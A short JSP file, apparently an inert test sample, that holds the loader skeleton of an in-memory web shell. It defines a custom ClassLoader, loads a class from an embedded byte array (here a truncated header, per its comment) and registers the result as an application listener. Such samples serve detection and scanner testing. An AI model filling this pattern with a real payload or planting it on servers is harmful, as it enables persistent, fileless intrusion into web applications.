<%-- inert sample: the class kept as a Java byte-array initializer (signed bytes, a truncated header:
     nothing loads) instead of Base64, defined by the page's own ClassLoader subclass and registered as a listener. --%>
<%!
    static final byte[] K = { -54, -2, -70, -66, 0, 0, 0, 52, 0, 26, 10, 0, 4, 0, 20, 1, 0, 6, 60, 105, 110, 105, 116, 62, 1, 0, 3, 40, 41, 86, 1, 0, 4, 67, 111, 100, 101, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0 };
    static class Shelf extends ClassLoader {
        Shelf(ClassLoader parent) { super(parent); }
        Class<?> put(byte[] b) { return defineClass(null, b, 0, b.length); }
    }
%>
<%
    Object o = new Shelf(getClass().getClassLoader()).put(K).newInstance();
    application.addListener((java.util.EventListener) o);
%>
